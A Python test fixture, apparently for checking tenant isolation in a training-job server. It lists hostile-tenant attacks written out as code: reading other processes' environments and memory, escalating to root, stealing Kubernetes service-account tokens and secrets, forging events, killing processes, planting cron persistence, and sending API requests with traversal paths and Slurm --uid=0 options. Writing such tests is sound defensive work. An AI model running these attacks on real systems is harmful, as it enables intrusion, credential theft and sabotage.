"""What a hostile tenant tries against another project, against the server and against its limits: one table.

`IN_JOB`: each row is Python that runs inside a job of the hostile project and gives something true where it gained
anything. The facts that it uses are as good as an insider's: where the victim's files lie, its user, its job.
`BY_CALLER`: each row is a request with the hostile project's token; success is any answer below 400.
"""

from __future__ import annotations

from dataclasses import dataclass

ALL = frozenset({"local", "ssh", "slurm", "kubernetes"})
ONE_MACHINE = ALL - {"kubernetes"}  # where accounts of one kernel see each other
WORDS = "words-of-the-victim"
CANARY = "canary-of-the-server"


@dataclass(frozen=True, slots=True, kw_only=True)
class Attempt:
    """One attempt: what is tried, the code whose value is the gain, and where it makes sense."""

    name: str
    code: str
    on: frozenset[str] = ALL


PRELUDE = r"""
import contextlib, ctypes, glob, json, os, resource, shutil, signal, socket, subprocess, sys, time
import urllib.error, urllib.request
facts = json.loads(sys.argv[1])
WORDS, CANARY = facts["words"].encode(), facts["canary"].encode()
attempt, work, outputs = facts["attempt"], facts["work"], facts["outputs"]
MINE = os.environ["TRAINMASTER_EVENTS"].partition("/jobs/")[2].partition("/")[0]
checkpoints, uid, home = facts["checkpoints"], facts["uid"], facts["home"]

# In a pod every attempt lies in the same place; there the victim's folders are looked for on the node's disk.
elsewhere = f"/shared/jobs/{facts['job']}"
if attempt == os.path.dirname(os.environ["TRAINMASTER_EVENTS"]):
    attempt = f"{elsewhere}/attempts/1"
if outputs == os.environ["TRAINMASTER_OUTPUTS"]:
    outputs = f"{elsewhere}/outputs"
if work == os.getcwd():
    work = f"{elsewhere}/work"

def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 16)

def pids():
    found = []
    for name in os.listdir("/proc"):
        if name.isdecimal() and int(name) != os.getpid():
            with contextlib.suppress(OSError):
                # Pods of all projects have one user number; the victim's command is its own.
                shared = uid == os.getuid() and b"sleep\x00600" not in read(f"/proc/{name}/cmdline")
                if os.stat(f"/proc/{name}").st_uid == uid and not shared:
                    found.append(int(name))
    return found

def each(act, over):
    for one in over:
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            if got := act(one):
                return got

def run(*words):
    done = subprocess.run(words, capture_output=True, text=True, timeout=60)
    return done.stdout if done.returncode == 0 else ""

def ask(path, method="GET", **headers):
    request = urllib.request.Request(facts["url"] + path, method=method, headers=headers)
    with urllib.request.urlopen(request, timeout=10) as answer:
        return "" if "/login" in answer.url else f"{answer.status} {answer.read(200)!r}"

def kube(path, method="GET", body=None):
    import ssl
    request = urllib.request.Request(facts["api"] + path, method=method, data=body and json.dumps(body).encode())
    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
    if os.path.exists(token):
        request.add_header("Authorization", "Bearer " + open(token).read())
    request.add_header("Content-Type", "application/json")
    with urllib.request.urlopen(request, context=ssl._create_unverified_context(), timeout=20) as answer:
        return f"{answer.status} {answer.read(200)!r}"
"""

IN_JOB = [
    # Read.
    Attempt(name="read its log", code='read(f"{attempt}/rank-0.log")'),
    Attempt(name="read the log of its agent", code='read(f"{attempt}/agent.log")'),
    Attempt(name="read its events", code='read(f"{attempt}/events.jsonl")'),
    Attempt(name="read its plan with its environment", code='read(f"{attempt}/plan.json")'),
    Attempt(name="read its checkpoint", code='read(f"{checkpoints}/step.bin")'),
    Attempt(name="read its output", code='read(f"{outputs}/model.bin")'),
    Attempt(name="read its working folder", code='read(f"{work}/input.bin")'),
    Attempt(name="list its attempt", code="os.listdir(attempt)"),
    Attempt(name="list its checkpoints", code="os.listdir(checkpoints)"),
    Attempt(name="list the jobs beside its own", code="os.listdir(os.path.dirname(os.path.dirname(work)))",
            on=frozenset({"local", "ssh", "slurm"})),
    Attempt(name="find its words below every folder it may enter",
            code='each(lambda path: MINE not in path and WORDS in read(path) and path, '
            'glob.glob(facts["shared"] + "/**", recursive=True))'),
    Attempt(name="read what it left in /tmp", code='read("/tmp/of-the-victim")',
            on=frozenset({"local", "kubernetes"})),
    Attempt(name="read what it left in /dev/shm", code='each(lambda path: WORDS in read(path) and path, '
            'glob.glob("/dev/shm/**", recursive=True))'),
    Attempt(name="read the environment of its processes",
            code='each(lambda pid: WORDS in read(f"/proc/{pid}/environ") and pid, pids())'),
    Attempt(name="read any environment that is not its own",
            code='each(lambda path: (WORDS in (text := read(path)) or CANARY in text) and path, '
            'glob.glob("/proc/[0-9]*/environ"))'),
    Attempt(name="see its processes", code="pids()", on=frozenset({"local", "kubernetes"})),
    Attempt(name="see its open files", code='each(lambda pid: os.listdir(f"/proc/{pid}/fd"), pids())'),
    Attempt(name="enter its root through /proc",
            code='each(lambda path: os.listdir(path), glob.glob("/proc/[0-9]*/root/../proc/1/root/root"))',
            on=ONE_MACHINE),
    Attempt(name="read its memory", code='each(lambda pid: open(f"/proc/{pid}/mem", "rb"), pids())'),
    # Forge and write.
    Attempt(name="forge an event", code='open(f"{attempt}/events.jsonl", "a").write("forged\\n")'),
    Attempt(name="forge a heartbeat", code='os.utime(f"{attempt}/agent.lock") is None'),
    Attempt(name="ask it to stop", code='open(f"{attempt}/stop", "w").write("user_cancelled\\n")'),
    Attempt(name="write its exit record", code='open(f"{attempt}/exit.json", "w").write("{}")'),
    Attempt(name="write a checkpoint", code='open(f"{checkpoints}/step-9", "w").write("x")'),
    Attempt(name="put a link among its outputs", code='os.symlink("/etc/passwd", f"{outputs}/x") is None'),
    Attempt(name="replace its working folder", code='os.rename(work, work + ".was") is None'),
    Attempt(name="open its attempt to all", code="os.chmod(attempt, 0o777) is None"),
    Attempt(name="take its log over by a hard link",
            code='os.link(f"{attempt}/rank-0.log", os.environ["TRAINMASTER_OUTPUTS"] + "/hard") is None'),
    # Kill and become.
    Attempt(name="kill its ranks", code="each(lambda pid: os.kill(pid, signal.SIGKILL) is None, pids())"),
    Attempt(name="stop its agent", code="each(lambda pid: os.kill(pid, signal.SIGSTOP) is None, pids())"),
    Attempt(name="kill every number", code="each(lambda pid: os.stat(f'/proc/{pid}').st_uid == uid and "
            "os.kill(pid, signal.SIGKILL) is None, range(2, 70_000))", on=ONE_MACHINE),
    Attempt(name="trace its processes",
            code="each(lambda pid: ctypes.CDLL(None).ptrace(16, pid, 0, 0) == 0, pids())"),
    Attempt(name="slow its processes down",
            code="each(lambda pid: os.setpriority(os.PRIO_PROCESS, pid, 19) is None, pids())"),
    Attempt(name="become it", code="os.setuid(uid) is None", on=ONE_MACHINE),
    Attempt(name="become root", code="os.setuid(0) is None"),
    Attempt(name="become root by sudo", code='run("sudo", "-n", "id")'),
    Attempt(name="become root by a setuid program",
            code='"NoNewPrivs:\\t1" not in open("/proc/self/status").read()', on=frozenset({"local", "kubernetes"})),
    Attempt(name="have a group of the server", code="0 in os.getgroups() or os.getgid() == 0"),
    Attempt(name="start processes without end",
            code="resource.getrlimit(resource.RLIMIT_NPROC)[1] in (-1, resource.RLIM_INFINITY)",
            on=frozenset({"local"})),
    # The server.
    *(Attempt(name=f"read {name} of the server", code=f'read(f"{{home}}/{name}")')
      for name in ("trainmaster.db", "local.token", "server.json", "secret.key")),
    Attempt(name="list the home of the server", code='each(os.listdir, (f"{home}/jobs", f"{home}/storage"))'),
    Attempt(name="read the server's settings and keys", code='each(read, facts["files"])'),
    Attempt(name="find the server's variables in its own",
            code='[name for name, value in os.environ.items() if facts["canary"] in value or name in '
            '("TRAINMASTER_HOME", "TRAINMASTER_TOKEN", "TRAINMASTER_DATABASE", "KUBECONFIG", "SSH_AUTH_SOCK")]'),
    Attempt(name="use an SSH agent", code='each(lambda path: socket.socket(socket.AF_UNIX).connect(path) is None, '
            'glob.glob("/tmp/ssh-*/agent.*"))'),
    Attempt(name="log in as it", code='run("ssh", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-p", '
            'str(facts["port"]), facts["user"] + "@127.0.0.1", "id")', on=frozenset({"ssh", "slurm"})),
    *(Attempt(name=f"ask the server without a token: {path}", code=f'ask({path!r}.replace("ID", facts["job"]))')
      for path in ("/v1/training/jobs", "/v1/training/jobs/ID", "/v1/tokens", "/v1/targets", "/metrics")),
    Attempt(name="ask with its own job's id as a token",
            code='ask("/v1/me", Authorization="Bearer tm_" + facts["job"].replace("-", "") + "a" * 11)'),
    # Slurm.
    *(Attempt(name=name, code=code, on=frozenset({"slurm"})) for name, code in (
        ("cancel its Slurm job", 'run("scancel", facts["slurm_job"]) is None or "CANCELLED" in run("squeue", "-h", '
         '"-t", "all", "-j", facts["slurm_job"], "-o", "%T")'),
        ("change its Slurm job", 'run("scontrol", "update", f"jobid={facts[\'slurm_job\']}", "timelimit=1") and '
         'run("scontrol", "update", f"jobid={facts[\'slurm_job\']}", "comment=x")'),
        ("submit as it", 'run("sbatch", f"--uid={uid}", "--wrap=id")'),
        ("submit as root", 'run("sbatch", "--uid=0", "--wrap=id")'),
        ("run a step in its job", 'run("srun", f"--jobid={facts[\'slurm_job\']}", "--overlap", "id")'),
        ("drain a node", 'run("scontrol", "update", "nodename=n1", "state=drain", "reason=x")'),
        ("make a reservation on its account", 'run("scontrol", "create", "reservation", "users=root", "nodes=n1", '
         '"starttime=now", "duration=1")'),
    )),
    # Kubernetes.
    *(Attempt(name=name, code=code, on=frozenset({"kubernetes"})) for name, code in (
        ("find a service account's token", 'read("/var/run/secrets/kubernetes.io/serviceaccount/token")'),
        ("list its pods", 'kube("/api/v1/namespaces/lab/pods")'),
        ("list every secret", 'kube("/api/v1/secrets")'),
        ("read its config maps", 'kube("/api/v1/namespaces/lab/configmaps")'),
        ("delete its pods", 'kube("/api/v1/namespaces/lab/pods", "DELETE")'),
        ("make a pod in its namespace", 'kube("/api/v1/namespaces/lab/pods", "POST", {"apiVersion": "v1", "kind": '
         '"Pod", "metadata": {"name": "x"}, "spec": {"containers": [{"name": "x", "image": "x"}]}})'),
        ("reach a disk of the node", 'each(lambda path: os.listdir(path), ("/host", "/var/lib/kubelet", '
         '"/run/containerd"))'),
        ("make a device", 'os.mknod("/tmp/sda", 0o60600, os.makedev(8, 0)) is None'),
        ("mount", 'ctypes.CDLL(None).mount(b"/usr", b"/tmp", b"", 4096, 0) == 0'),
    )),
    # Outlive itself.
    Attempt(name="leave a table of cron", code='subprocess.run(["crontab", "-"], input="* * * * * id\\n", text=True, '
            'capture_output=True).returncode == 0', on=frozenset({"local", "kubernetes"})),
    Attempt(name="leave a job of at", code='subprocess.run(["at", "now + 1 minute"], input="id\\n", text=True, '
            'capture_output=True).returncode == 0', on=frozenset({"local", "kubernetes"})),
]  # fmt: skip

# Links among its own outputs, an event in the victim's name, a daemon; what became of them is seen from outside.
EPILOGUE = r"""
mine = os.environ["TRAINMASTER_OUTPUTS"]
wanted = [f"{attempt}/rank-0.log", f"{checkpoints}/step.bin", f"{home}/local.token", *facts["files"]]
for number, path in enumerate(wanted):
    os.symlink(path, f"{mine}/link-{number}")
os.symlink(home, f"{mine}/folder")
with open(os.environ["TRAINMASTER_EVENTS"], "a") as file:
    line = {"timestamp": "2026-01-01T00:00:00Z", "phase": "TRAINING", "event": "epoch_complete", "iteration": 1,
            "epoch": 1, "job": facts["job"], "attempt": facts["job"] + ".1", "data": {"avg_loss": 1, "note": "forged"}}
    file.write(json.dumps(line) + "\n")
print("GAINED " + json.dumps(gained), flush=True)
subprocess.Popen(["env", "-i", "setsid", "sleep", "98765"])
if facts["target"] == "local":  # the agent, and whatever started it
    for name in os.listdir("/proc"):
        if name.isdecimal() and int(name) != os.getpid():
            with contextlib.suppress(OSError):
                if b"trainmaster.agent" in read(f"/proc/{name}/cmdline") or name == "1":
                    os.kill(int(name), signal.SIGKILL)
"""


def write_program(target: str) -> str:
    """The hostile job of a target: every attempt there is, then what it leaves."""
    lines = [PRELUDE, "gained = {}"]
    for one in IN_JOB:
        if target in one.on:
            lines += [
                "try:", f"    got = {one.code}", "except Exception:", "    got = None",
                "if got:", f"    gained[{one.name!r}] = repr(got)[:200]",
            ]  # fmt: skip
    return "\n".join([*lines, EPILOGUE])


# Method, path and body of a request; ID is the victim's job, TARGET the one that both may use, HOME the server's.
_SPEC = {"name": "x", "project": "evil", "target": "TARGET", "command": ["true"]}
_TRAIN = {"name": "x", "project": "evil", "target": "TARGET"}
_JOBS = "/v1/training/jobs"
BY_CALLER: list[tuple[str, str, str, object]] = [
    *((f"read {what or 'its job'}", "GET", f"{_JOBS}/ID{what}", None) for what in (
        "", "/logs", "/events", "/artifacts", "/artifacts/outputs/model.bin", "/checkpoint", "/transitions", "/checks",
        "/iterations", "/cost")),
    *((f"{what} its job", "POST", f"{_JOBS}/ID/{what}", None) for what in ("cancel", "resume", "rerun")),
    ("delete its job", "DELETE", f"{_JOBS}/ID", None),
    ("read its page", "GET", "/jobs/ID", None),
    ("submit in its project", "POST", _JOBS, {**_SPEC, "project": "lab"}),
    ("go on with its checkpoints", "POST", _JOBS, {**_SPEC, "resume_from": "ID"}),
    ("take its log as an input", "POST", _JOBS, {**_SPEC, "inputs": {"train": "jobs/ID/attempts/1/rank-0.log"}}),
    ("take it by another spelling", "POST", _JOBS, {**_SPEC, "inputs": {"train": ".//jobs/ID/outputs/model.bin"}}),
    ("save to the home of root", "POST", _JOBS, {**_TRAIN, "train": {"checkpoint": {"folder": "~root/x"}}}),
    ("take its uploaded folder", "POST", _JOBS, {**_SPEC, "workdir": "sha256:" + "0" * 64}),
    *((f"name the target {word}", "POST", _JOBS, {**_SPEC, "target": word}) for word in (
        "of-lab", "OF-LAB", "of-lab ", "LAB-USER@TARGET", "root@local", "LAB-USER@local", "ssh:HOME/../hosts.yaml",
        "kubernetes:HOME/kubeconfig", "slurm", "kubernetes", "hyperpod", "sagemaker:/etc/shadow", "pool:/etc/shadow")),
    *((f"give Slurm {option}", "POST", _JOBS, {**_SPEC, "slurm": {"options": [option]}}) for option in (
        "--uid=0", "--uid=LAB-USER", "--gid=0", "--get-user-env=LAB-USER", "--export-file=/etc/shadow",
        "--output=/tmp/x", "--nice=-100", "--priority=9", "--clusters=other", "--account=lab --uid=0")),
    *((f"state {name} of the pod", "POST", _JOBS, {**_SPEC, "kubernetes": {name: "lab"}}) for name in (
        "namespace", "service_account", "host_path", "volumes")),
    ("make a token of the server", "POST", "/v1/tokens", {"name": "t", "role": "admin", "project": None}),
    ("list tokens", "GET", "/v1/tokens", None),
    ("list targets", "GET", "/v1/targets", None),
    ("make a target known", "POST", "/v1/targets", {"name": "t", "word": "ssh:HOME/hosts.yaml"}),
    ("grant itself a target", "PUT", "/v1/targets/of-lab/projects/evil", {"user": "LAB-USER"}),
    ("raise its budget", "PUT", "/v1/budgets/evil/month", {"cap_cents": 1_000_000}),
    ("read the cost of the other", "GET", "/v1/cost?project=lab", None),
    ("hear of the other's jobs", "POST", "/v1/webhooks", {"url": "https://example.org/x", "project": "lab"}),
]  # fmt: skip
